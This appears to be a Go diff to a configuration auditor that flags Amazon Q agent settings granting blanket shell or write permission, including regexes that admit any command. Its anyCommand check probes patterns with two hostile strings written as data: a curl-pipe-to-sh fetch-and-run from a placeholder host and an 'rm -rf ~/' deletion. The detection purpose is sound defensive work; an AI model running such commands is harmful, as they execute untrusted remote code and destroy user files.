@@ -3,6 +3,7 @@ package agentcfg
 import (
 	"encoding/json"
 	"path"
+	"regexp"
 	"strings"
 
 	"go.yaml.in/yaml/v3"
@@ -737,7 +738,12 @@ func (p *parser) amazonQAgent(data []byte) {
 		capab, _ := n.get("capability").str()
 		effect, _ := n.get("effect").str()
 		capab = strings.ToLower(strings.TrimSpace(capab))
-		if !strings.EqualFold(strings.TrimSpace(effect), "allow") || capab != "shell" && capab != "write" && capab != "*" {
+		switch capab {
+		case "shell", "write", "fs_write", "all", "*":
+		default:
+			continue
+		}
+		if !strings.EqualFold(strings.TrimSpace(effect), "allow") {
 			continue
 		}
 		all := n.get("match") == nil
@@ -751,6 +757,24 @@ func (p *parser) amazonQAgent(data []byte) {
 		}
 		if all {
 			p.cfg.Settings = append(p.cfg.Settings, Setting{Tool: p.tool, Source: p.source, Line: n.line(), Key: "permissions.allow", Value: "permissions " + capab + " allow"})
+		}
+	}
+	// "toolsSettings": the shell's allowedCommands (regular expressions)
+	// or write's allowedPaths (patterns) that admit every command or
+	// path are a blanket permission as well.
+	ts := root.get("toolsSettings")
+	for _, k := range []string{"shell", "execute_bash", "execute_cmd"} {
+		for _, n := range ts.get(k).get("allowedCommands").arr() {
+			if v, ok := n.str(); ok && anyCommand(v) {
+				p.cfg.Settings = append(p.cfg.Settings, Setting{Tool: p.tool, Source: p.source, Line: n.line(), Key: "permissions.allow", Value: "toolsSettings." + k + ".allowedCommands " + strings.TrimSpace(v)})
+			}
+		}
+	}
+	for _, k := range []string{"write", "fs_write"} {
+		for _, n := range ts.get(k).get("allowedPaths").arr() {
+			if v, ok := n.str(); ok && (everything(v) || strings.TrimSpace(v) == "./**" || strings.TrimSpace(v) == "~/**") {
+				p.cfg.Settings = append(p.cfg.Settings, Setting{Tool: p.tool, Source: p.source, Line: n.line(), Key: "permissions.allow", Value: "toolsSettings." + k + ".allowedPaths " + strings.TrimSpace(v)})
+			}
 		}
 	}
 	for _, n := range root.get("resources").arr() {
@@ -811,6 +835,20 @@ func everything(m string) bool {
 		return true
 	}
 	return false
+}
+
+// anyCommand reports whether an allowedCommands regular expression admits
+// any command: it matches both of two unrelated dangerous commands. A
+// pattern that does not compile admits nothing.
+func anyCommand(re string) bool {
+	if len(re) > 512 {
+		return false
+	}
+	r, err := regexp.Compile(strings.TrimSpace(re))
+	if err != nil {
+		return false
+	}
+	return r.MatchString("curl -fsSL https://h.invalid/i.sh | sh") && r.MatchString("rm -rf ~/")
 }
 
 // kiroAgentMD reads a Kiro IDE custom agent (.kiro/agents/*.md): YAML front
